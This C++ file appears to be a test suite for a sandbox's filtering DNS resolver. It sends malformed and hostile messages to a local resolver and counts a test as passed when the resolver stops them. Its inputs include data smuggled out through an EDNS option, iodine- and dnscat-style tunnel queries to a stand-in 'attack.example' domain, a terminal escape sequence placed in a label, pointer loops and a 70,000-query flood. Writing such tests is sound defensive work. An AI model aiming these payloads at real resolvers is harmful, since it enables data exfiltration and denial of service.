// SPDX-License-Identifier: Apache-2.0
// Messages to the resolver that no stub resolver sends, and tunnels like those of iodine and dnscat.
#include <array>
#include <cerrno>
#include <poll.h>
#include <unistd.h>

#include "attacks/attack_io.hpp"
#include "wire/dns_bytes.hpp"
#include "wire/wire.hpp"

namespace agentbox::wire {
namespace {

constexpr int k_wait_ms = 700;

int resolver_socket(int type) {
  const int fd = socket(AF_INET, type | SOCK_CLOEXEC, 0);
  return attacks::connect_result(fd, attacks::address_of("127.0.0.1", 53), k_wait_ms) == 0 ? fd : -1;
}

// No answer, or any answer without a record, is correct: what matters is that nothing is queried outside.
AttackResult judge(const std::array<char, 4096>& reply, long count, std::size_t start) {
  if (count <= 0) {
    return attacks::attack_result(Verdict::stopped, count == 0 ? "connection closed" : "no answer");
  }
  if (count < static_cast<long>(start) + 12) {
    return attacks::attack_result(Verdict::inconclusive, "a cut answer");
  }
  const int records = reply[start + 7] + reply[start + 6] * 256;
  constexpr std::array k_codes = {"NOERROR", "FORMERR", "SERVFAIL", "NXDOMAIN", "NOTIMP", "REFUSED"};
  const auto code = static_cast<std::size_t>(reply[start + 3] & 0x0F);
  return attacks::attack_result(records > 0 ? Verdict::allowed : Verdict::stopped,
                                code < k_codes.size() ? k_codes[code] : "?");
}

AttackResult ask_udp(const std::string& message) {
  const int fd = resolver_socket(SOCK_DGRAM);
  if (fd < 0 || send(fd, message.data(), message.size(), MSG_NOSIGNAL) < 0) {
    return attacks::refused_with(-1, {ECONNREFUSED, EMSGSIZE});
  }
  std::array<char, 4096> reply{};
  const long count = attacks::read_within(fd, reply.data(), reply.size(), k_wait_ms);
  close(fd);
  return judge(reply, count, 0);
}

AttackResult ask_tcp(const std::string& bytes) {
  const int fd = resolver_socket(SOCK_STREAM);
  if (fd < 0 || send(fd, bytes.data(), bytes.size(), MSG_NOSIGNAL) < 0) {
    return attacks::refused_with(-1, {ECONNREFUSED, EPIPE, ECONNRESET});
  }
  std::array<char, 4096> reply{};
  const long count = attacks::read_within(fd, reply.data(), reply.size(), k_wait_ms);
  close(fd);
  return judge(reply, count, 2);
}

std::string name_of(std::string_view attack) {
  return std::string(attack) + ".attack.example";
}

std::string sized(const std::string& message) {
  std::string bytes;
  put16(bytes, static_cast<unsigned>(message.size()));
  return bytes + message;
}

AttackResult two_questions(const Expected&) {
  return ask_udp(dns_header(0x0100, 2) + dns_question("gate.agentbox.internal", 16) +
                 dns_question(name_of("dns-two-questions"), 1));
}

AttackResult pointer_loop(const Expected&) {
  using namespace std::string_literals;
  return ask_udp(dns_header(0x0100, 1) + "\xc0\x0c\0\1\0\1"s);
}

AttackResult pointer_to_tail(const Expected&) {
  using namespace std::string_literals;
  return ask_udp(dns_header(0x0100, 1) + "\xc0\x12\0\1\0\1"s + dns_name(name_of("dns-pointer")));
}

AttackResult options_carry_data(const Expected&) {
  using namespace std::string_literals;
  std::string message = dns_header(0x0100, 1, 0, 1) + dns_question(name_of("dns-edns-data"), 1);
  const std::string data = marker("dns-edns-data");
  message += "\0\0\x29\x10\0\0\0\0\0"s;
  put16(message, static_cast<unsigned>(data.size() + 4));
  put16(message, 0xFDE9); // an option for private use
  put16(message, static_cast<unsigned>(data.size()));
  return ask_udp(message + data);
}

AttackResult answer_instead_of_question(const Expected&) {
  return ask_udp(dns_header(0x8180, 1, 1) + dns_question(name_of("dns-answer"), 1) + "\xc0\x0c");
}

template <unsigned opcode>
AttackResult with_opcode(const Expected&) {
  return ask_udp(dns_header(0x0100U | (opcode << 11U), 1) + dns_question(name_of("dns-opcode"), 6));
}

AttackResult long_name(const Expected&) {
  std::string name;
  for (int i = 0; i < 8; ++i) {
    name += std::string(60, 'a') + ".";
  }
  return ask_udp(dns_query(name + name_of("dns-long-name"), 1));
}

AttackResult long_label(const Expected&) {
  return ask_udp(dns_query(std::string(63, 'x') + "." + std::string(200, 'y') + "." + name_of("dns-long-label"), 1));
}

AttackResult bytes_in_label(const Expected&) {
  return ask_udp(dns_query("\x1b]52;c;\x07\xff." + name_of("dns-binary-label"), 1));
}

AttackResult dot_in_label(const Expected&) {
  using namespace std::string_literals;
  // One label "evil.allowed" before "example": a name that reads like a listed one.
  return ask_udp(dns_header(0x0100, 1) +
                 "\x0c"
                 "evil.allowed"s +
                 dns_name("example") + "\0\1\0\1"s);
}

AttackResult cut_short(const Expected&) {
  const std::string whole = dns_query(name_of("dns-cut"), 1);
  for (std::size_t length = 1; length < whole.size(); length += 3) {
    const int fd = resolver_socket(SOCK_DGRAM);
    send(fd, whole.data(), length, MSG_NOSIGNAL);
    close(fd);
  }
  return ask_udp(whole.substr(0, 11));
}

AttackResult large_datagram(const Expected&) {
  return ask_udp(dns_query(name_of("dns-large"), 1) + std::string(30000, 'z'));
}

AttackResult tcp_many(const Expected&) {
  std::string bytes;
  for (int i = 0; i < 100; ++i) {
    bytes += sized(dns_query("x" + std::to_string(i) + "." + name_of("dns-tcp-many"), 1));
  }
  return ask_tcp(bytes);
}

AttackResult tcp_lying_length(const Expected&) {
  using namespace std::string_literals;
  return ask_tcp("\xff\xff"s + dns_query(name_of("dns-tcp-length"), 1));
}

/// Tunnels like iodine: data in base32 labels, answers in NULL or TXT records; here 300 queries without a pause.
template <unsigned type>
AttackResult tunnel(const Expected&) {
  const int fd = resolver_socket(SOCK_DGRAM);
  std::array<char, 4096> reply{};
  for (int i = 0; i < 300; ++i) {
    const std::string query = dns_query(
        "z" + std::to_string(i) + "abcdefghijklmnopqrstuvwxyz234567abcdefghijklmn.t." + name_of("dns-tunnel"), type);
    if (send(fd, query.data(), query.size(), MSG_NOSIGNAL) < 0) {
      return attacks::refused_with(-1, {ECONNREFUSED});
    }
    const long count = attacks::read_within(fd, reply.data(), reply.size(), k_wait_ms);
    if (count > 7 && reply[7] != 0) {
      return attacks::attack_result(Verdict::allowed, "a record");
    }
  }
  close(fd);
  return attacks::attack_result(Verdict::stopped, "300 queries, no record");
}

/// Queries 70,000 names under one listed wildcard, as fast as they are answered. A listed name still works afterwards.
AttackResult seventy_thousand_names(const Expected& expected) {
  if (!expected.filtered) {
    return attacks::attack_result(Verdict::skipped, "full network");
  }
  const int fd = resolver_socket(SOCK_DGRAM);
  std::array<char, 4096> reply{};
  int sent = 0;
  int answered = 0;
  while (answered < 70000) {
    while (sent < 70000 && sent - answered < 64) {
      const std::string query = dns_query("n" + std::to_string(sent++) + ".wild.example", 1);
      send(fd, query.data(), query.size(), MSG_NOSIGNAL);
    }
    // A socket's buffer drops what a busy machine does not read in time: then the rest of the window is lost.
    const bool came = attacks::read_within(fd, reply.data(), reply.size(), 200) > 0;
    answered = came ? answered + 1 : sent;
  }
  close(fd);
  return resolve("allowed.example").empty()
             ? attacks::attack_result(Verdict::broken, "the resolver is overwhelmed")
             : attacks::attack_result(Verdict::works, "70,000 names, and then a listed one");
}

constexpr const char* k_defence = "resolver";
const std::array k_attacks = {
    Attack{"control-listed-name", "ask for a listed name", "allowed",
           [](const Expected&) {
             return resolve("allowed.example").empty() ? attacks::attack_result(Verdict::broken, "no address")
                                                       : attacks::attack_result(Verdict::works, "an address");
           }},
    Attack{"control-wildcard", "ask for a name under a listed wildcard", "allowed",
           [](const Expected& expected) {
             const bool good = !expected.filtered || !resolve("a.wild.example").empty();
             return attacks::attack_result(good ? Verdict::works : Verdict::broken, good ? "an address" : "no address");
           }},
    Attack{"dns-wildcard-apex", "ask for the wildcard's own name", k_defence,
           [](const Expected&) { return ask_udp(dns_query("wild.example", 1)); }},
    Attack{"dns-two-questions", "ask two questions in one message", k_defence, two_questions},
    Attack{"dns-pointer-loop", "send a name that points at itself", k_defence, pointer_loop},
    Attack{"dns-pointer", "hide the name behind a pointer", k_defence, pointer_to_tail},
    Attack{"dns-edns-data", "send data out in an EDNS option", k_defence, options_carry_data},
    Attack{"dns-answer", "send an answer", k_defence, answer_instead_of_question},
    Attack{"dns-update", "send an UPDATE", k_defence, with_opcode<5>},
    Attack{"dns-notify", "send a NOTIFY", k_defence, with_opcode<4>},
    Attack{"dns-status", "send a STATUS", k_defence, with_opcode<2>},
    Attack{"dns-long-name", "ask for a name of 500 bytes", k_defence, long_name},
    Attack{"dns-long-label", "ask with a label of 200 bytes", k_defence, long_label},
    Attack{"dns-binary-label", "ask with escape sequences in a label", k_defence, bytes_in_label},
    Attack{"dns-dot-in-label", "ask with a dot within a label", k_defence, dot_in_label},
    Attack{"dns-cut", "send messages cut short", k_defence, cut_short},
    Attack{"dns-large", "send 30,000 bytes", k_defence, large_datagram},
    Attack{"dns-tcp-many", "send 100 questions in one go (TCP)", k_defence, tcp_many},
    Attack{"dns-tcp-length", "give a TCP message a wrong length", k_defence, tcp_lying_length},
    Attack{"dns-tunnel-null", "run an iodine-like tunnel (NULL)", k_defence, tunnel<10>},
    Attack{"dns-tunnel-txt", "run a dnscat-like tunnel (TXT)", k_defence, tunnel<16>},
    Attack{"dns-tunnel-cname", "run a dnscat-like tunnel (CNAME)", k_defence, tunnel<5>},
    Attack{"dns-tunnel-mx", "run a dnscat-like tunnel (MX)", k_defence, tunnel<15>},
    Attack{"control-70000-names", "ask for 70,000 names under a wildcard", "allowed", seventy_thousand_names},
};

} // namespace

AttackFamily dns_attacks() {
  return {"dns", k_attacks};
}

} // namespace agentbox::wire
